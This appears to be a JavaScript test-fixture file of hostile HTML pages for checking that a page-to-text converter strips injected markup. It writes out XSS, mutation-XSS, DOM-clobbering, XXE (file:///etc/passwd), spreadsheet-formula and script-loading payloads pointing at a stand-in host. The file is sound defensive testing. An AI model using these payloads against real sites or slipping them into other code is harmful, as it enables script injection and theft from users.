// @ts-check
// Saved web pages that nobody should send, each with the text that it must give, character by
// character, in every browser. All markup in them carries the class `foreign`, so that one look
// at the page tells whether any of it came in.

/** What each of them tries to run. It writes into the window, its opener and its parent. */
export const ATTACK = "(window.opener||parent||window).hit=1;window.hit=1;alert(1)";
const A = ATTACK;
/** Asks for something that would be seen on the network. */
const URL_OF = (/** @type {string} */ what) => `https://foreign.invalid/${what}`;

/**
 * @typedef {object} HostilePage
 * @property {string} name of its file
 * @property {string | Buffer} source
 * @property {string | ((text: string) => boolean)} text what it must give, or what must hold of it
 * @property {string} [title] as the list of articles shows it, where the page says one
 */

/** @param {string} name @param {string | Buffer} source @param {HostilePage["text"]} text @param {string} [title] @returns {HostilePage} */
const page = (name, source, text, title) => ({ name: `${name}.html`, source, text, title });

/** One paragraph between the attack and its end. @param {string} name @param {string} before @param {string} [after] */
const around = (name, before, after = "") => page(name, `${before}<p class=foreign>Words of ${name}.</p>${after}`, `Words of ${name}.\n`);

/** Deeper than browsers keep elements, and not too deep for their parsers. */
const DEEP = 4_900;

/** @type {HostilePage[]} */
export const PAGES = [
  // Scripts, in each place that has run one somewhere.
  around("script", `<script class=foreign>${A}</script><script class=foreign src=${URL_OF("a.js")}></script>`),
  around("script-module", `<script class=foreign type=module>import "${URL_OF("m.js")}";${A}</script>`),
  page("script-cut", `<scr<script>ipt class=foreign>${A}</script><p>Words.`, `ipt class=foreign>${A}\n\nWords.\n`),
  around("handlers", `<body class=foreign onload="${A}" onpageshow="${A}" onhashchange="${A}"><img class=foreign src=x onerror="${A}"><input class=foreign autofocus onfocus="${A}"><details class=foreign open ontoggle="${A}"></details><style onload="${A}"></style>`),
  around("svg", `<svg class=foreign onload="${A}"><script>${A}</script><animate onbegin="${A}" attributeName=x dur=1s /><foreignObject><iframe srcdoc="<script>${A}</script>"></iframe></foreignObject><use href="data:image/svg+xml,<svg onload=alert(1)>"/></svg>`),
  page("math", `<math class=foreign><mtext></mtext><mglyph><style></math><img src=x onerror="${A}">--></style></mglyph></math><p>Words of math.`, (text) => text.endsWith("Words of math.\n")),
  around("iframe-srcdoc", `<iframe class=foreign srcdoc="&lt;script&gt;${A}&lt;/script&gt;"></iframe><iframe class=foreign src="javascript:${A}"></iframe><iframe class=foreign src=${URL_OF("frame")}></iframe>`),
  around("object-embed", `<object class=foreign data="javascript:${A}"><p>fallback</p></object><embed class=foreign src="javascript:${A}"><object class=foreign data=${URL_OF("o.swf")}></object>`),
  page("javascript-links", `<p class=foreign>See <a class=foreign href="javascript:${A}">this</a>, <a href="JaVa&#10;ScRiPt:${A}">that</a> and <a href="data:text/html,<script>${A}</script>" target=_top ping=${URL_OF("ping")}>more</a>.`, "See this, that and more.\n"),
  around("meta-refresh", `<meta class=foreign http-equiv=refresh content="0;url=${URL_OF("away")}"><meta http-equiv=refresh content="0;javascript:${A}">`),
  around("base-href", `<base class=foreign href="${URL_OF("base/")}" target=_top><link class=foreign rel=stylesheet href=style.css><img src=pixel.gif>`),
  around("links-and-hints", `<link class=foreign rel=stylesheet href=${URL_OF("s.css")}><link rel=preload as=script href=${URL_OF("p.js")}><link rel=prefetch href=${URL_OF("f")}><link rel=dns-prefetch href=//dns.foreign.invalid><link rel=preconnect href=${URL_OF("")}><link rel=manifest href=${URL_OF("m")}><link rel=icon href=${URL_OF("i")}>`),
  around("pictures", `<img class=foreign src=${URL_OF("1.gif")} srcset="${URL_OF("2.gif")} 2x"><picture><source srcset=${URL_OF("3.gif")}></picture><video class=foreign src=${URL_OF("v")} poster=${URL_OF("p")} autoplay></video><audio src=${URL_OF("a")} autoplay></audio><input type=image src=${URL_OF("b")}><table background=${URL_OF("t")}></table>`),
  around("css", `<style class=foreign>@import "${URL_OF("i.css")}"; body{background:url(${URL_OF("b.png")});display:none} *{-moz-binding:url(${URL_OF("x")})} @font-face{font-family:f;src:url(${URL_OF("f.woff")})}</style><div class=foreign style="background:url(${URL_OF("s.png")});position:fixed;inset:0;z-index:9999">`),
  page("form", `<form class=foreign action="${URL_OF("form")}" method=post><p>Words of form.</p><input name=password value=secret><button formaction="javascript:${A}">Send</button><textarea>typed</textarea><select><option>chosen</select></form><script>document.forms[0].submit()</script>`, "Words of form.\n"),
  // Names that would hide what a page's scripts rely on.
  around("clobbering", `<form class=foreign id=document name=body><input id=attributes name=parentNode><input name=firstChild><input name=nextSibling><input name=nodeType><img name=getElementById></form><a class=foreign id=trustedTypes href=x></a><a id=window name=location></a><form id=gainsay name=currentScript></form>`),
  around("clobbering-attributes", `<form class=foreign hidden><input name=hidden><input name=getAttribute><input name=hasAttributes></form><div class=foreign id=constructor name=__proto__ __proto__=x constructor=y toString=z>`, "</div>"),
  // What a second parser would make something else of.
  page("mutation-noscript", `<noscript class=foreign><p title="</noscript><img class=foreign src=x onerror=${A}>">after it</p></noscript><p>Words of mutation-noscript.`, (text) => text.endsWith("Words of mutation-noscript.\n") && text.includes("after it")),
  page("mutation-style", `<svg class=foreign></p><style><a id="</style><img src=1 onerror=${A}>"></style></svg><p>Words of mutation-style.`, (text) => text.endsWith("Words of mutation-style.\n")),
  page("mutation-table", `<p class=foreign>before<table>out of place<tr><td>cell<table><td>inner</table></td></tr></table><img src=x onerror="${A}">`, (text) => text.includes("out of place") && text.includes("inner")),
  page("mutation-xmp", `<p>Words.</p><xmp class=foreign><img src=x onerror=${A}></xmp>`, `Words.\n\n<img src=x onerror=${A}>\n`),
  page("mutation-textarea", `<textarea class=foreign></textarea><img class=foreign src=x onerror=${A}><p>Words.</p><title></title><img src=x onerror=${A}></title><textarea>never closed <p>swallowed`, "Words.\n"),
  page("entities", `<p class=foreign>&lt;script&gt;${A.replaceAll("&", "&amp;")}&lt;/script&gt; &amp;lt;b&amp;gt; &#x3C;i&#62; &bogus; &#0; &#xD800; &#x110000;</p>`, `<script>${A}</script> &lt;b&gt; <i> &bogus; \ufffd \ufffd \ufffd\n`),
  page("template", `<template class=foreign><p>not here</p><script>${A}</script><img src=${URL_OF("t")} onerror="${A}"></template><div><template shadowrootmode=open><p>shadow</p><slot></slot></template><p>Words of template.</p></div>`, "Words of template.\n"),
  page("comments", `<p>Words<!-- <script>${A}</script> --> of<!--> comments.</p><!--[if IE]><script>${A}</script><![endif]--><![CDATA[ <img src=x onerror=${A}> ]]>`, (text) => text.startsWith("Words of comments.")),
  page("processing", `<?xml version="1.0"?><?xml-stylesheet href="${URL_OF("x.xsl")}"?><!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY y "ha">]><p class=foreign>One &x; two &y;.</p>`, (text) => text.includes("One &x; two &y;.") && !text.includes("root:")),
  page("frameset", `<p>Words of frameset.</p><frameset class=foreign onload="${A}"><frame src="javascript:${A}"></frameset><noframes><p>no</p></noframes>`, "Words of frameset.\n"),
  page("plaintext", `<p>Words.</p><plaintext class=foreign><script>${A}</script>`, `Words.\n\n<script>${A}</script>\n`),
  page("custom-elements", `<x-evil class=foreign onclick="${A}" is=x-evil>Words of <y-evil>custom</y-evil> elements.</x-evil><slot name=x>slot</slot>`, "Words of custom elements.slot\n"),
  page("dialog", `<dialog class=foreign open>Open words.</dialog><dialog>shut</dialog><p popover>popped</p><div contenteditable onfocus="${A}" autofocus>Edited.</div>`, (text) => text.startsWith("Open words.") && text.includes("Edited.") && !text.includes("shut")),
  // Shapes.
  page("unclosed", `<p class=foreign>One <b>two <i>three</p><p>four</b> five<table><tr><td>six<div>seven<p>eight<a href=x>nine`, (text) => ["One two three", "four five", "six", "nine"].every((words) => text.includes(words))),
  page("deep-divs", `${"<div class=foreign>".repeat(DEEP)}Deep words.`, "Deep words.\n"),
  page("deep-tables", `${"<table><tr><td>".repeat(DEEP)}Deep words.`, (text) => text.includes("Deep words.")),
  page("deep-format", `${"<b><i class=foreign><p>".repeat(1_000)}Deep words.`, (text) => text.includes("Deep words.")),
  page("long-attribute", `<p class=foreign title="${"x".repeat(1_000_000)}" style="${"color:red;".repeat(10_000)}">Words.</p>`, "Words.\n"),
  page("many-attributes", `<p class=foreign ${Array.from({ length: 20_000 }, (_, n) => `a${n}=x on${n}="${A}"`).join(" ")}>Words.</p>`, "Words.\n"),
  page("long-name", `<${"x".repeat(200_000)} class=foreign>Words.</p>`, "Words.\n"),
  page("long-line", `<p class=foreign>${"word ".repeat(100_000)}</p>`, `${"word ".repeat(100_000).trim()}\n`),
  page("many-lists", `<ol class=foreign start=99999999999999999999>${"<li value=-5>x".repeat(2_000)}</ol>`, (text) => text.startsWith("-5. x\n") && text.trimEnd().split("\n").length === 2_000),
  page("many-comments", `${"<!---->".repeat(100_000)}<p>Words.`, "Words.\n"),
  // Encodings.
  page("zero-bytes-escaped", "<p>a&#0;b</p>", "a\ufffdb\n"),
  page("utf-7", "<meta charset=utf-7><p>+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-\n"),
  page("windows-1251", Buffer.concat([Buffer.from('<meta http-equiv="Content-Type" content="text/html; charset=windows-1251"><p>'), Buffer.from([0xca, 0xe8, 0xbf, 0xe2]), Buffer.from("</p>")]), "Київ\n"),
  page("shift-jis", Buffer.concat([Buffer.from("<meta charset=shift_jis><p>"), Buffer.from([0x93, 0x8c, 0x8b, 0x9e, 0x83, 0x5c]), Buffer.from("<b>x</b>")]), "東京ソx\n"),
  page("utf-16-bom", Buffer.from("\ufeff<meta charset=shift_jis><p>Київ</p>", "utf16le"), "Київ\n"),
  page("charset-lie", "<meta charset=klingon><p>Київ</p>", "Київ\n"),
  page("charset-late", `<!--${"x".repeat(2_000)}--><meta charset=windows-1251><p>Київ</p>`, "Київ\n"),
  page("iso-2022", Buffer.from("<meta charset=iso-2022-kr><p>Words.</p>"), (text) => text === "Words.\n" || text === "\ufffd\n"),
  // What a page says of itself.
  page("title-markup", `<title><img src=x onerror="${A}"></title><p>Words.</p>`, "Words.\n", `<img src=x onerror="${A}">`.slice(0, 40)),
  page("title-bidi", "<title>Good \u202eyad\u202c day</title><p>Words.</p>", "Words.\n", "Good"),
  page("details-hostile", `<html lang='"><script>'><meta property=og:title content='"><img src=x onerror=${A}>'><meta property=og:site_name content="=cmd|' /C calc'!A0"><meta name=author content="<script>${A}</script>"><meta property=article:published_time content="'; drop table"><link rel=canonical href="javascript:${A}"><meta property=og:url content="https://a.invalid/&quot; onclick=x"><p>Words of details.</p>`, "Words of details.\n"),
  page("json-ld", `<script type=application/ld+json>{"__proto__": {"hit": 1}, "constructor": {"prototype": {"hit": 1}}, "datePublished": "2025-04-09", "headline": "<img src=x onerror=${A.replaceAll('"', "'")}>", "author": {"name": {"a": []}}}</script><p>Words of data.</p>`, "Words of data.\n"),
  page("json-ld-deep", `<script type=application/ld+json>${"[".repeat(100_000)}</script><p>Words.</p>`, "Words.\n"),
];
